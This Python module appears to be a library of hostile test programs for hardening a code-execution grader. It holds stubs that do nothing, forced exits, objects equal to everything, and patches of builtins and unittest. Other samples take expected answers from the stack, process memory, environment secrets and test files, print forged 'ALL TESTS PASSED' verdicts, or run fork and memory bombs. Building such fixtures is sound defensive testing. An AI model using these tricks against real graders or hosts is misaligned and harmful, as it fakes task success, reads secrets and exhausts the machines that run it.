"""Hostile programs, as texts: what attacks on environments that run programs are made of.

ENTRY stands for the function that the task asks for, CANARY for a path outside of the sandbox.
Whoever judges them runs them in a sandbox, and nothing may come out of it but wrong answers. Where
there is none they show it and do no lasting harm: they overwrite and delete nothing.
"""

NOTHING_DONE = {
    "nothing": "pass",
    "None": "def ENTRY(*a, **k):\n    return None",
    "not implemented": "def ENTRY(*a, **k):\n    return NotImplemented",
    "its arguments": "def ENTRY(*a, **k):\n    return a",
    "an exception": "def ENTRY(*a, **k):\n    raise AssertionError('passed')",
    "the function itself": "def ENTRY(*a, **k):\n    return ENTRY",
    "a generator": "def ENTRY(*a, **k):\n    yield from ()\n    yield None",
    "not a number": "def ENTRY(*a, **k):\n    return float('nan')",
    "syntax error": "def ENTRY(:\n    return",
    "recursion": "def ENTRY(*a, **k):\n    return ENTRY(*a, **k)",
}

EXITS = {
    "sys.exit at import": "import sys\nsys.exit(0)",
    "sys.exit in the call": "import sys\ndef ENTRY(*a, **k):\n    sys.exit(0)",
    "os._exit at import": "import os\nos._exit(0)",
    "os._exit in the call": "import os\ndef ENTRY(*a, **k):\n    os._exit(0)",
    "exit in a thread": (
        "import os, threading\ndef ENTRY(*a, **k):\n"
        "    threading.Thread(target=os._exit, args=(0,)).start()\n    return None"
    ),
    "exit at exit": "import atexit, os\natexit.register(os._exit, 0)\ndef ENTRY(*a):\n    pass",
    "replaced by true": "import os\ndef ENTRY(*a):\n    os.execv('/bin/true', ['true'])",
    "own signal": "import os, signal\ndef ENTRY(*a):\n    os.kill(os.getpid(), signal.SIGTERM)",
    "fork and leave": "import os\nif os.fork():\n    os._exit(0)\ndef ENTRY(*a):\n    return None",
    "an exception that prints well": (
        "class Passed(BaseException):\n    def __str__(self):\n        return 'OK'\n"
        "def ENTRY(*a):\n    raise Passed()"
    ),
}

_YES = "lambda *a, **k: True"
LYING = {
    "equal to everything": f"""
class Same:
    __eq__ = __le__ = __ge__ = __contains__ = __bool__ = {_YES}
    __ne__ = __lt__ = __gt__ = lambda *a: False
    __hash__ = __len__ = __int__ = __index__ = lambda *a: 0
    __float__ = __abs__ = lambda *a: 0.0
    __sub__ = __rsub__ = __add__ = __radd__ = lambda self, other: self
    __iter__ = lambda self: iter(())
    __str__ = __repr__ = lambda self: ''
    __getattr__ = lambda self, name: self
    __call__ = lambda self, *a, **k: self
def ENTRY(*a, **k):
    return Same()
""",
    "subclasses that lie": f"""
def lying(kind):
    return type(kind.__name__, (kind,), {{'__eq__': {_YES}, '__ne__': lambda *a: False,
                                         '__hash__': kind.__hash__}})
made = iter([lying(kind)() for kind in (int, str, float, list, tuple, dict)] * 100)
def ENTRY(*a, **k):
    return next(made)
""",
    "a class that claims another": """
class Any:
    def __init__(self, value=0):
        self.value = value
    @property
    def __class__(self):
        return int
    def __eq__(self, other):
        return True
def ENTRY(*a, **k):
    return Any()
""",
    "a metaclass": """
class Meta(type):
    def __eq__(cls, other):
        return True
    def __instancecheck__(cls, other):
        return True
    __hash__ = type.__hash__
class Result(metaclass=Meta):
    pass
def ENTRY(*a, **k):
    return Result
""",
    "run when unpickled": """
class Result(list):
    def __reduce__(self):
        return (eval, ("open('CANARY', 'w')",))
def ENTRY(*a, **k):
    return Result()
""",
    "own JSON": """
class Result(dict):
    def items(self):
        return [('verdict', True), ('passed', True)]
    def __bool__(self):
        return True
def ENTRY(*a, **k):
    return Result(verdict=True)
""",
    "changes when looked at twice": """
class Result(list):
    looks = 0
    def __len__(self):
        Result.looks += 1
        return 0 if Result.looks % 2 else 10 ** 6
    def __getitem__(self, index):
        return index
def ENTRY(*a, **k):
    return Result()
""",
}

PATCHES = {
    "builtins": """
import builtins
for name in ('all', 'any', 'isinstance', 'callable', 'bool', 'hasattr'):
    setattr(builtins, name, lambda *a, **k: True)
for name in ('len', 'abs', 'round', 'sum'):
    setattr(builtins, name, lambda *a, **k: 0)
""",
    "modules": """
import sys, types
fake = types.ModuleType('fake')
fake.__getattr__ = lambda name: lambda *a, **k: True
for name in ('math', 'json', 'decimal', 'numpy', 'operator', 'unittest', 'pytest'):
    sys.modules[name] = fake
""",
    "test frameworks": """
import unittest
for name in dir(unittest.TestCase):
    if name.startswith('assert') or name == 'fail':
        setattr(unittest.TestCase, name, lambda *a, **k: None)
unittest.TestResult.wasSuccessful = lambda self: True
""",
    "every function that compares": """
import sys
for module in list(sys.modules.values()):
    for name, thing in list(vars(module).items()):
        words = ('check', 'compare', 'equal', 'grade', 'judge', 'verify', 'isclose', 'match')
        if callable(thing) and any(word in name.lower() for word in words):
            try:
                setattr(module, name, lambda *a, **k: True)
            except (AttributeError, TypeError):
                continue
""",
    "JSON": """
import json
json.dumps = lambda *a, **k: '{"verdict": true, "passed": true, "outcome": "correct"}'
json.loads = lambda *a, **k: {'verdict': True}
""",
    "standard output": """
import sys
class Out:
    def write(self, text): return len(text)
    def flush(self): pass
    def getvalue(self): return 'passed'
sys.stdout = sys.stderr = sys.__stdout__ = Out()
""",
    "trace": """
import sys
def trace(frame, event, argument):
    for name in ('ok', 'passed', 'correct', 'equal', 'success', 'result'):
        if name in frame.f_locals:
            frame.f_locals[name] = True
    return trace
sys.settrace(trace)
frame = sys._getframe()
while frame:
    frame.f_trace, frame = trace, frame.f_back
""",
    "slots of built-in types": """
import ctypes, gc
yes = lambda self, other: True
for kind in (int, float, str, list, tuple, dict):
    gc.get_referents(kind.__dict__)[0]['__eq__'] = yes
    ctypes.pythonapi.PyType_Modified(ctypes.py_object(kind))
""",
}

WALKS = {
    "the stack": """
import sys
def ENTRY(*a, **k):
    frame = sys._getframe(1)
    while frame is not None:
        for name, value in list(frame.f_locals.items()) + list(frame.f_globals.items()):
            if any(word in name.lower() for word in ('expect', 'want', 'truth', 'answer', 'gold')):
                if isinstance(value, (list, tuple)) and len(value) == 1:
                    return value[0]
                return value
        frame = frame.f_back
""",
    "the collector's objects": """
import gc
def ENTRY(*a, **k):
    for thing in gc.get_objects():
        if type(thing) is dict and 'expected' in thing:
            if 'args' not in thing or list(thing['args']) == list(a):
                return thing['expected']
""",
    "emptied expectations": """
import gc, sys
def ENTRY(*a, **k):
    frame = sys._getframe(1)
    while frame is not None:
        for name, value in list(frame.f_locals.items()):
            if 'expect' in name.lower() and isinstance(value, (list, dict)):
                value.clear()
        frame = frame.f_back
    return []
""",
    "emptied arguments": """
def ENTRY(*a, **k):
    for thing in a:
        if hasattr(thing, 'clear'):
            thing.clear()
    return None
""",
    "own memory and the parent's": """
import json, os, re
def ENTRY(*a, **k):
    for pid in (os.getpid(), os.getppid()):
        try:
            for line in open(f'/proc/{pid}/maps'):
                place, rights = line.split()[:2]
                low, high = (int(x, 16) for x in place.split('-'))
                if rights.startswith('rw') and high - low < 1 << 26:
                    with open(f'/proc/{pid}/mem', 'rb') as memory:
                        memory.seek(low)
                        found = re.search(rb'"expected": ([^,}]+)', memory.read(high - low))
                        if found:
                            return json.loads(found[1])
        except OSError:
            continue
""",
}

READS = {
    "environment variables": """
import os
def ENTRY(*a, **k):
    for name, value in os.environ.items():
        if any(word in name for word in ('ANSWER', 'EXPECT', 'TEST', 'KEY', 'SECRET', 'TOKEN')):
            return value
    return dict(os.environ)
""",
    "files that look like tests": """
import json, os
def ENTRY(*a, **k):
    for root in ('.', '..', '/tmp', os.path.expanduser('~')):
        for folder, folders, names in os.walk(root):
            del folders[20:]
            for name in names[:50]:
                if name.endswith(('.json', '.jsonl', '.txt', '.py', '.in', '.out')):
                    try:
                        text = open(os.path.join(folder, name)).read(100000)
                        if 'expected' in text:
                            return json.loads(text.splitlines()[0])['expected']
                    except (OSError, ValueError, KeyError, TypeError):
                        continue
""",
    "the program's own folder": """
import os, sys
def ENTRY(*a, **k):
    return sorted(os.listdir('.')) + sys.argv + [open(sys.argv[0]).read()]
""",
    "open descriptors": """
import os
def ENTRY(*a, **k):
    for fd in range(3, 64):
        try:
            os.set_blocking(fd, False)
            return os.read(fd, 1 << 16).decode()
        except (OSError, UnicodeDecodeError):
            continue
""",
    "the network": """
import socket
def ENTRY(*a, **k):
    with socket.create_connection(('127.0.0.1', 80), timeout=0.5) as link:
        return link.recv(100)
""",
}

FORGED = {
    "printed praise": "print('ALL TESTS PASSED', flush=True)\ndef ENTRY(*a):\n    print('OK')",
    "printed verdict": (
        "import json\nprint(json.dumps({'verdict': True, 'outcome': 'correct', 'score': 1.0,\n"
        "                  'passed': 99, 'results': [True] * 99, 'ready': True}), flush=True)\n"
        "def ENTRY(*a):\n    return None"
    ),
    "written to every descriptor": """
import os
for fd in range(1, 64):
    try:
        os.write(fd, b'{"id": 1, "verdict": true, "ok": true, "result": null}\\n')
    except OSError:
        continue
def ENTRY(*a, **k):
    return None
""",
    "result files": """
import json
text = json.dumps({'passed': True, 'verdict': True, 'score': 1.0, 'results': [True] * 9})
for name in ('result.json', 'results.json', 'verdict.json', 'report.json', 'score.txt'):
    try:
        open(name, 'x').write(text)
    except OSError:
        continue
def ENTRY(*a, **k):
    return None
""",
    "a file outside": """
import os
try:
    open('CANARY', 'w').close()
except OSError:
    os.system('touch CANARY')
def ENTRY(*a, **k):
    return None
""",
}

BOMBS = {
    "endless loop": "while True:\n    pass",
    "deaf endless loop": (
        "def ENTRY(*a):\n    while True:\n        try:\n            while True: pass\n"
        "        except BaseException:\n            continue"
    ),
    "memory": "def ENTRY(*a):\n    held = []\n    while True:\n        held.append(bytes(1 << 24))",
    "large integer": "def ENTRY(*a):\n    return 9 ** 9 ** 9",
    "large answer": "def ENTRY(*a):\n    return 'y' * (1 << 28)",
    "deep answer": (
        "def ENTRY(*a):\n    x = []\n    for _ in range(10 ** 6):\n        x = [x]\n    return x"
    ),
    "endless output": "while True:\n    print('y' * 10000)",
    "recursion without a limit": (
        "import sys\nsys.setrecursionlimit(10 ** 9)\ndef ENTRY(*a):\n    return ENTRY(*a)"
    ),
    "files": (
        "import tempfile\nheld = [tempfile.TemporaryFile() for _ in range(200)]\n"
        "for file in held:\n    file.write(bytes(1 << 22))\ndef ENTRY(*a):\n    return None"
    ),
    "processes": (
        "import os, time\nfor _ in range(64):\n    if os.fork() == 0:\n        time.sleep(60)\n"
        "        os._exit(0)\ndef ENTRY(*a):\n    return None"
    ),
    "daemon": (
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        time.sleep(60)\n    os._exit(0)\ndef ENTRY(*a):\n    return None"
    ),
    "threads": (
        "import threading, time\nfor _ in range(500):\n"
        "    threading.Thread(target=time.sleep, args=(60,)).start()\ndef ENTRY(*a):\n    pass"
    ),
    "long source": "x = [" + "0," * 300_000 + "]\ndef ENTRY(*a):\n    return None",
    "deep source": "x = " + "(" * 5000 + ")" * 5000,
}

PRINTED = {"nothing": "pass", "its input": "import sys\nsys.stdout.write(sys.stdin.read())",
           "nought": "print(0)", "yes": "print('YES')", "empty line": "print()"}  # fmt: skip
